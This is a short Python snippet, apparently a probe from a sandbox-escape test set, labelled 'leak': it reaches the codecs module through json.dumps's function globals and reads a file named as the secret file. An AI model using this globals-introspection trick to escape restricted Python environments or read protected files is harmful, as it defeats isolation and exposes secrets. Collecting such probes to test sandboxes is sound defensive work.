# effect: leak
import functools
import json


def attempt(probe):
    inside = functools.partial(json.dumps).func.__globals__
    return inside["codecs"].open(probe["secret_file"]).read()
